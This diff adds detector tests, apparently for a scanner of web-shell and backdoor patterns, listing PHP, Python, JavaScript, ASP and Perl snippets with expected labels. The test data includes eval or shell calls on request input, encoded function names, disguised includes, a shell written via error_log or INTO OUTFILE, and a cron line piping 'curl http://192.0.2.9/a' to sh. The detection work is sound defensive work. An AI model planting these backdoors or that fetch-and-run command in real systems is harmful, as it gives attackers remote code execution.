@@ -165,3 +165,82 @@ def test_settings_of_folders(text, expected):
     facts.begin(text)
     read_settings(text, facts)
     assert sorted(facts.places) == expected
+
+
+@pytest.mark.parametrize("code, expected", [
+    # Arguments and names that come in other ways than one by one.
+    ("usort(...$_GET);", "callback.request_both"),
+    ("$f = passthru(...); $f($_POST['x']);", "command.request"),
+    ("array_walk($a = array($_POST['v'] => 'system'), function ($f, $k) { $f($k); });", "call.request_both"),
+    ("class A { static function go($v) { eval($v); } } (new ReflectionClass('A'))->getMethod('go')->invoke(null, $_GET[0]);", "code.request"),
+    ("class A { function __get($n) { return $_REQUEST[$n]; } } $o = new A; eval($o->x);", "code.request"),
+    ("class A { function ping($c) { passthru($c); } } $s = new SoapServer(null, []); $s->setClass('A');", "command.request"),
+    ("register_rest_route('a', 'b', ['callback' => function ($r) { return shell_exec($r->get_param('c')); }]);", "command.request"),
+    # Names that are written encoded, wherever they are decoded.
+    ("$f = own('c3lzdGVt'); $f($_POST[0]);", "hidden_name"),
+    # Files that are no scripts, or are made for the moment.
+    ("include 'phar://' . dirname(__FILE__) . '/a.jpg/b.txt';", "include.disguised"),
+    ("include __DIR__ . '/img/logo.png';", "include.disguised"),
+    ("include 'php://filter/convert.base64-decode/resource=a.txt';", "include.disguised"),
+    ("$t = tempnam('/tmp', 'x'); file_put_contents($t, $_POST[0]); include $t;", "include.temporary"),
+    ("eval(apcu_fetch('x'));", "code.stored"),
+    # Others write for it.
+    ("ini_set('error_log', __DIR__ . '/404.php'); error_log($_GET['x']);", "log_script"),
+    ("mysqli_query($m, \"SELECT 1 INTO OUTFILE '/srv/c.php'\");", "query_drop"),
+    ("mail('a@b', 's', $_POST['m'], '', '-X' . $_SERVER['DOCUMENT_ROOT'] . '/x.php');", "mail_option.request"),
+    ("file_put_contents('/var/spool/cron/www', '* * * * * curl http://192.0.2.9/a | sh');", "command.fetched"),
+])
+def test_ways_through_php_that_are_not_straight(code, expected):
+    assert expected in php(code).places
+
+
+@pytest.mark.parametrize("code", [
+    "class A { function ping($c) { passthru($c); } } $form->setClass('btn');",
+    "include 'phar://' . __DIR__ . '/tool.phar/index.php';",
+    "include __DIR__ . '/view/' . $name . '.php';",
+    "$handler = $container->get('handler'); $handler($request);",
+    "mail('info@example.org', $_POST['subject'], $_POST['text']);",
+    "$m->query(\"SELECT a INTO OUTFILE '/tmp/list.csv'\");",
+    "function f(...$more) { return max(...$more); }",
+])
+def test_what_looks_alike_in_php(code):
+    assert told(php(code)) == []
+
+
+def _code(language, text):
+    facts = Facts()
+    facts.begin(text)
+    read_code(text, language, facts)
+    return facts
+
+
+@pytest.mark.parametrize("language, text, expected", [
+    ("python", "from subprocess import check_output as co\n@app.get('/x')\ndef f(c: str, d=1):\n    return co(c, shell=True)\n", "command.request"),
+    ("python", "import subprocess as sp\n@app.route('/<p>')\ndef f(p):\n    sp.run(p, shell=True)\n", "command.request"),
+    ("python", "q = [x for x in os.environ['QUERY_STRING'].split('&')]\nos.system(q[0])\n", "command.request"),
+    ("python", "getattr(__import__('subprocess'), 'getoutput')(request.args['c'])\n", "command.request"),
+    ("python", "class H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.popen(self.path[1:])\n", "command.request"),
+    ("js", "const { exec } = require('child_process'); createServer((q, s) => { exec(q.url); });", "command.request"),
+    ("js", "import { execSync as x } from 'node:child_process'; app.use(async c => { x(c.query.q ?? 'id'); });", "command.request"),
+    ("js", "app.post('/a', (req, res) => new Function('a', req.body)(1));", "code.request"),
+    ("js", "require('child_process').exec(req.query?.c)", "command.request"),
+    ("js", "const k = atob('Y2hpbGRfcHJvY2Vzcw=='); ", "hidden_name"),
+    ("asp", "<script runat=\"server\" language=\"c#\">void F() { Process.Start(t.Text); }</script><asp:TextBox id=\"t\" runat=\"server\"/>",
+     "command.request"),
+    ("perl", "my $c = $ENV{QUERY_STRING}; system($c);", "command.request"),
+    ("perl", "my $c = $ENV{QUERY_STRING}; system('sh', '-c', $c);", "command.request"),
+    ("perl", "my $c = $ENV{QUERY_STRING}; open(F, \"$c |\");", "command.request"),
+])
+def test_ways_through_other_languages(language, text, expected):
+    assert expected in _code(language, text).places
+
+
+@pytest.mark.parametrize("language, text", [
+    ("perl", "my $c = $ENV{QUERY_STRING}; system('svn', 'commit', '-m', $c);"),
+    ("perl", "my $c = $ENV{QUERY_STRING}; open(F, \"<\", \"/srv/x\") || die $c;"),
+    ("perl", "sub f { my $param = shift; system($param->{tool}); }"),
+    ("js", "const m = /x/; createServer((q, s) => { m.exec(q.url); });"),
+    ("python", "import subprocess as sp\ndef f(p):\n    sp.run(p)\n"),
+])
+def test_what_looks_alike_in_other_languages(language, text):
+    assert "command.request" not in _code(language, text).places
